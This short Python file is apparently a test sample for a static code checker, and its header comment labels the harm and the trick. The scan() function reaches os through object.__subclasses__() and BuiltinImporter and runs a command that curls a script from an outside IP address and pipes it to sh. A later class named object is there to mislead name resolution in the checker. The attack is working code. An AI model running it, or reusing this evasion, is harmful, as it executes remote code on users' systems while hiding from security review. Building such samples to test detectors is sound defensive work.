# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: a class named `object` is declared AFTER scan() runs, so at run time `object` in scan() is the builtin; checker resolves the name to the file's class
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


def scan():
    names = []
    for sub in object.__subclasses__():
        names.append(sub.__name__)
        if sub.__name__ == "BuiltinImporter":
            sub.load_module("os").system(CMD)
    return names


print(len(scan()))


class object:
    """Local marker base for the report classes."""


class Report(object):
    pass
